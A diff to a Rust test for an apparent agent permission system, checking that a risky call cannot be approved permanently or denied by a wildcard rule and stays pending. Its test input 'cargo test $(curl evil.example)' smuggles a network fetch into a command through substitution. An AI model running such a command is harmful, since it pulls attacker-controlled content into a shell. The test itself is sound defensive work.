@@ -317,6 +317,41 @@ async fn bad_rules_change_nothing(backend: Backend) {
             .status(),
         Some(404)
     );
+    // A call no rule may match cannot be allowed always or denied as a rule by default; it
+    // stays waiting, decidable once.
+    let risky = ask(&agent, "cargo test $(curl evil.example)").await;
+    assert!(risky.suggested.is_empty(), "{risky:?}");
+    let e = bad(
+        "always for an unmatchable call",
+        admin
+            .allow_permission_with(
+                &risky.id.to_string(),
+                &AllowPermission {
+                    scope: AllowScope::Always,
+                    patterns: vec![],
+                },
+            )
+            .await,
+    );
+    assert!(e.contains("decide it once"), "{e}");
+    let e = bad(
+        "a deny rule with a pattern that matches everything",
+        admin
+            .deny_permission_with(
+                &risky.id.to_string(),
+                &DenyPermission {
+                    reason: None,
+                    rule: true,
+                    patterns: vec!["*".into()],
+                },
+            )
+            .await,
+    );
+    assert!(e.contains("--force"), "{e}");
+    assert_eq!(
+        now_status(&admin, &risky).await.status,
+        PermissionStatus::Pending
+    );
     // Bad input decided nothing and stored nothing.
     let rules = admin.rules(true).await.expect("rules");
     assert_eq!(rules.len(), 1, "{rules:?}");
